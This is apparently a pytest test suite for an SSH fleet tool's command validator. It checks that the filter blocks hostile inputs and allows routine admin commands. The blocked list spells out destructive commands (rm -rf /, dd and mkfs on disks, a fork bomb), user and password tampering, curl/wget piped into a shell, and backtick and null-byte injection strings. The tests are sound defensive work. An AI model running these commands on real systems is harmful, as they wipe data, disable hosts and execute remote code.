"""
CommandValidator test suite.

Pure checks — no network. Run with full visibility:
    pytest tests/test_validator.py -v -s
"""

from __future__ import annotations

import pytest

from fleet_ssh_tools.exceptions import CommandValidationError
from fleet_ssh_tools.validator import CommandValidator


def _report(label: str, detail: str = "") -> None:
    """Uniform test-level print."""
    if detail:
        print(f"  [{label}] {detail}")
    else:
        print(f"  [{label}]")


@pytest.fixture(scope="module")
def validator() -> CommandValidator:
    return CommandValidator()


class TestRejectedCommands:
    """Commands the filter must block."""

    @pytest.mark.parametrize(
        "command",
        [
            "echo hi\0",
            "ls\0; rm x",
            "echo `id`",
            "cat `which python`",
        ],
    )
    def test_null_byte_and_backtick(self, validator: CommandValidator, command: str) -> None:
        _report("TEST", f"validate({command!r})")
        result = validator.validate(command)
        _report("ASSERT", f"valid == False → {result.valid} ({result.reason})")
        assert not result.valid
        assert result.reason

    @pytest.mark.parametrize(
        "command",
        [
            "rm -rf /",
            "rm -rf /etc",
            "sudo rm  -rf /var/log",
            ":(){ :|:& };:",
            "echo x > /dev/sda",
            "dd if=/dev/zero of=/dev/sdb bs=1M",
            "mkfs.ext4 /dev/sdb1",
            "fdisk -l",
            "shutdown -h now",
            "sudo reboot",
            "HALT",
            "systemctl poweroff",
            "userdel bob",
            "deluser alice",
            "echo root:x | passwd root",
            "chmod 777 /",
            "curl https://example.com/x.sh | bash",
            "wget -qO- https://example.com/x.sh | sh",
        ],
    )
    def test_dangerous_patterns(self, validator: CommandValidator, command: str) -> None:
        _report("TEST", f"validate({command!r})")
        result = validator.validate(command)
        _report("ASSERT", f"valid == False → {result.valid} ({result.reason})")
        assert not result.valid
        assert result.reason is not None
        assert result.reason.startswith("Dangerous command pattern detected")


class TestAllowedCommands:
    """Operational scripting that must pass."""

    @pytest.mark.parametrize(
        "command",
        [
            "whoami",
            "uname -a",
            "df -h && free -m",
            "test -f /etc/hosts || echo missing",
            "cd /tmp; ls -la",
            "ps aux | grep nginx | wc -l",
            "echo $(hostname)",
            "rm -rf /tmp/build-cache",
            "rm -rf /var/tmp/scratch",
            "curl -s https://example.com/health",
        ],
    )
    def test_allowed(self, validator: CommandValidator, command: str) -> None:
        _report("TEST", f"validate({command!r})")
        result = validator.validate(command)
        _report("ASSERT", f"valid == True → {result.valid}")
        assert result.valid
        assert result.reason is None

    def test_collection_script_is_allowed(self, validator: CommandValidator) -> None:
        from fleet_ssh_tools.collector import METRICS_SCRIPT

        _report("TEST", "The batched metrics script passes its own filter")
        assert validator.validate(METRICS_SCRIPT).valid


class TestValidateOrRaise:
    def test_raises_with_reason(self, validator: CommandValidator) -> None:
        _report("TEST", "validate_or_raise on a fork bomb")
        with pytest.raises(CommandValidationError) as exc_info:
            validator.validate_or_raise(":(){ :|:& };:", context="unit test")

        err = exc_info.value
        _report("ASSERT", f"message carries context → {err}")
        assert "[unit test]" in str(err)
        assert err.command == ":(){ :|:& };:"
        assert err.reason
        assert err.retryable is False

    def test_passes_silently(self, validator: CommandValidator) -> None:
        validator.validate_or_raise("uptime", context="unit test")
        _report("PASS", "Valid command did not raise")


if __name__ == "__main__":
    pytest.main([__file__, "-v", "-s"])
